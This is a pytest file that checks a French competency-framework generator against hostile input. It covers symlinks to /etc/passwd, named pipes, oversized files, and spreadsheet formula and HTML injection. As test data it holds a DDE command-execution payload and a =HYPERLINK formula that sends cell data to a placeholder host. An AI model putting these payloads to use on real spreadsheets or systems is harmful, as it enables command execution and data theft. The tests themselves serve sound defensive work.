"""Hostile and clumsy input (issue 16): only regular files of the framework are read, sizes are
bounded, nothing blocks; exports hold no formula. Each test is an attack that once succeeded
(or one of the same kind), run through the command line as a user would."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from generator import load
from generator.cli import main
from generator.text import abbr_line, attr, csv_cell, terminal, tooltip

from .conftest import CASES, ROOT, assemble_case


def _validate(framework: Path, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "generator", "validate", "--framework",
                           str(framework)], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout, check=False)


@pytest.fixture
def framework(tmp_path: Path) -> Path:
    return assemble_case(CASES / "base", tmp_path)


# -- files outside the framework are never read -----------------------------------------------

def test_a_link_to_a_system_file_is_refused_without_showing_it(framework: Path) -> None:
    (framework / "competences" / "cp16.yml").symlink_to("/etc/passwd")
    proc = _validate(framework)
    assert proc.returncode == 1
    assert ("cp16.yml: error[file.special]: lien symbolique vers « /etc/passwd », hors du "
            "dossier du référentiel : remplacez-le par le fichier lui-même") in proc.stderr
    assert "root:" not in proc.stderr and "Traceback" not in proc.stderr


def test_a_link_to_a_valid_file_elsewhere_is_refused(framework: Path, tmp_path: Path) -> None:
    outside = tmp_path / "ailleurs.yml"
    data = yaml.safe_load((framework / "competences" / "cp02.yml").read_text(encoding="utf-8"))
    data["id"] = "cp03"
    outside.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    (framework / "competences" / "cp03.yml").symlink_to(outside)
    proc = _validate(framework)
    assert proc.returncode == 1
    assert f"lien symbolique vers « {outside} », hors du dossier" in proc.stderr


def test_a_link_inside_the_framework_is_read(framework: Path) -> None:
    """A link to a file of the framework itself reads that file (here: a duplicate)."""
    (framework / "competences" / "cp03.yml").symlink_to(framework / "competences" / "cp02.yml")
    proc = _validate(framework)
    assert "file.special" not in proc.stderr
    assert "cp03.yml" in proc.stderr  # its id « cp02 » does not match its name


def test_a_link_to_a_folder_is_not_followed(framework: Path, tmp_path: Path) -> None:
    (tmp_path / "dehors").mkdir()
    (framework / "seances").symlink_to(tmp_path / "dehors")
    proc = _validate(framework)
    assert proc.returncode == 1
    assert ("seances: error[file.special]: lien symbolique vers un dossier : non suivi"
            in proc.stderr)


def test_a_link_to_an_endless_device_is_refused_at_once(framework: Path) -> None:
    (framework / "competences" / "cp16.yml").symlink_to("/dev/zero")
    start = time.monotonic()
    proc = _validate(framework, timeout=30)
    assert time.monotonic() - start < 20
    assert proc.returncode == 1
    assert "lien symbolique vers « /dev/zero »" in proc.stderr


def test_a_named_pipe_never_blocks(framework: Path) -> None:
    os.mkfifo(framework / "competences" / "cp16.yml")
    proc = _validate(framework, timeout=30)  # once hung forever
    assert proc.returncode == 1
    assert ("cp16.yml: error[file.special]: n'est pas un fichier ordinaire (tube, périphérique "
            "ou socket) : non lu") in proc.stderr


# -- sizes are bounded before parsing ---------------------------------------------------------

def test_a_huge_glossary_is_refused_before_reading(framework: Path) -> None:
    with (framework / "glossaire.yml").open("ab") as handle:
        handle.truncate(50 * 1024 * 1024)  # 50 Mo (sparse: nothing to write)
    start = time.monotonic()
    proc = _validate(framework)
    assert time.monotonic() - start < 20  # once 28 s and 687 Mo
    assert proc.returncode == 1
    assert ("glossaire.yml: error[file.taille]: fichier trop volumineux (50 Mo) : 256 Ko au plus "
            "par fichier") in proc.stderr


def test_a_list_of_millions_of_items_is_refused_before_parsing(framework: Path) -> None:
    path = framework / "parcours" / "sortie.yml"
    with path.open("a", encoding="utf-8") as handle:
        handle.write("note: [" + "1," * 2_000_000 + "1]\n")  # once over 6 Go of memory
    proc = _validate(framework)
    assert proc.returncode == 1
    assert "sortie.yml: error[file.taille]: fichier trop volumineux (4 Mo)" in proc.stderr


def test_the_whole_framework_has_a_size_limit(framework: Path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(load, "MAX_TOTAL_BYTES", 3000)
    assert main(["validate", "--framework", str(framework)]) == 1
    err = capsys.readouterr().err
    assert "error[file.taille]: fichier non lu : le référentiel dépasse 2 Ko au total" in err


# -- escaping, one function per context -------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+33 6", "-2", "@SOMME(A1)", "\tx", "\r=1"])
def test_csv_cells_never_start_a_formula(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell("Repérer " + value) == "Repérer " + value


def test_moodle_export_holds_no_formula(framework: Path, tmp_path: Path) -> None:
    path = framework / "competences" / "cp01.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["criteres"][0]["libelle"] = '=HYPERLINK("http://x.invalid/?"&A1;"clic")'
    data["criteres"][1]["libelle"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    echelle = framework / "echelle.yml"
    data = yaml.safe_load(echelle.read_text(encoding="utf-8"))
    data["niveaux"][0]["libelle"] = "-1+2"
    echelle.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "moodle.csv"
    assert main(["export", "--format", "moodle", "--framework", str(framework),
                 "--output", str(out)]) == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8")))
             for cell in row]
    assert "'=HYPERLINK(\"http://x.invalid/?\"&A1;\"clic\")" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert any(cell.startswith("'-1+2,") for cell in cells)  # the scale values
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_attribute_and_tooltip_contexts() -> None:
    assert attr('a"b<c>|[x](javascript:y)') == (
        "a&#34;b&#60;c&#62;&#124;&#91;x&#93;&#40;javascript&#58;y&#41;")
    # Material shows the decoded title as HTML: it must decode to escaped markup.
    assert tooltip("<img src=x>") == "&#38;lt&#59;img src&#61;x&#38;gt&#59;"
    assert abbr_line("PASS IAE", "Déf\n<b>") == "*[PASS IAE]: Déf &#38;lt&#59;b&#38;gt&#59;"
    with pytest.raises(ValueError):
        abbr_line("A]: x", "y")


def test_terminal_context_shows_control_characters() -> None:
    assert terminal("a\x1b[31mb\nc\u202ed") == "a\\x1b[31mb\\nc\\u202ed"


def test_no_schema_pattern_accepts_a_final_line_break() -> None:
    """In Python (both engines), « $ » matches before a final line break: « cp01\\n » once
    passed the id pattern. Patterns end with (?![\\s\\S]) instead."""
    import json

    from generator.load import SCHEMA_DIR

    def patterns(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "pattern":
                    yield value
                else:
                    yield from patterns(value)
        elif isinstance(node, list):
            for item in node:
                yield from patterns(item)

    for path in sorted(SCHEMA_DIR.glob("*.schema.json")):
        for pattern in patterns(json.loads(path.read_text(encoding="utf-8"))):
            assert not pattern.endswith("$"), (path.name, pattern)
